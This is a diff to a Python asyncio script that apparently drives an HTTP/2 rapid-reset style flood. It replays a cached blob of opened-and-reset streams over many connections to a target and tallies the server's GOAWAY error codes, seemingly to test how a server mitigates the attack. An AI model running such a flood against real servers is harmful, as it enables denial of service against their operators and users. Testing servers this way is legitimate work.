@@ -16,6 +16,7 @@ from dataclasses import asdict, dataclass, field
 
 import h2.config
 import h2.connection
+import h2.errors
 import h2.events
 import h2.exceptions
 
@@ -65,8 +66,47 @@ async def goaway(reader: asyncio.StreamReader, conn: h2.connection.H2Connection,
     return None
 
 
+def goaway_in(data: bytes) -> str | None:
+    """The error code name of the first GOAWAY frame in ``data`` (raw HTTP/2 frames), if any."""
+    at = 0
+    while at + 9 <= len(data):
+        length = int.from_bytes(data[at:at + 3], "big")
+        if data[at + 3] == 0x7 and at + 9 + 8 <= len(data):  # GOAWAY: last stream id (4), error code (4)
+            code = int.from_bytes(data[at + 13:at + 17], "big")
+            try:
+                return h2.errors.ErrorCodes(code).name
+            except ValueError:
+                return str(code)
+        at += 9 + length
+    return None
+
+
+async def raw_goaway(reader: asyncio.StreamReader, timeout: float) -> str | None:
+    """``goaway`` without an h2 state machine: the attacker's blob is built once and replayed on every
+    connection (its bytes are the same each time), so nothing tracks the streams it opened."""
+    deadline = time.monotonic() + timeout
+    received = b""
+    while (left := deadline - time.monotonic()) > 0:
+        try:
+            data = await asyncio.wait_for(reader.read(65536), left)
+        except (TimeoutError, ConnectionError):
+            return None
+        if not data:
+            return None
+        received += data
+        code = goaway_in(received)
+        if code is not None:
+            return code
+    return None
+
+
+_BLOBS: dict[int, bytes] = {}
+
+
 async def one_connection(port: int, streams: int, tally: Tally, quiet_after: float) -> None:
-    conn, blob = opened_and_reset(streams)
+    blob = _BLOBS.get(streams)
+    if blob is None:
+        blob = _BLOBS[streams] = opened_and_reset(streams)[1]
     try:
         reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, port, local_addr=(SOURCE, 0)), 2.0)
     except (OSError, TimeoutError):
@@ -77,7 +117,7 @@ async def one_connection(port: int, streams: int, tally: Tally, quiet_after: flo
         writer.write(blob)
         await asyncio.wait_for(writer.drain(), 5.0)
         tally.streams += streams
-        code = await goaway(reader, conn, quiet_after)
+        code = await raw_goaway(reader, quiet_after)
         if code is not None:
             tally.goaways[code] = tally.goaways.get(code, 0) + 1
     except (OSError, TimeoutError):
